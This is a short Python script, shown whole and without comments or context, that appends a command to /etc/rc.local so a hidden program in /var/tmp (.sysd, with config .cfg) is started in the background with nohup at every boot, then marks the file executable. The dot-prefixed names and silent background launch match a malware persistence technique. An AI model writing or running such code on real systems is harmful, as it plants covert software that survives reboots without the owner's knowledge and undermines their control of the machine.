import os

rc = "/etc/rc.local"
with open(rc, "a") as fh:
    fh.write("\n/usr/bin/nohup /var/tmp/.sysd -c /var/tmp/.cfg &\nexit 0\n")
os.chmod(rc, 0o755)
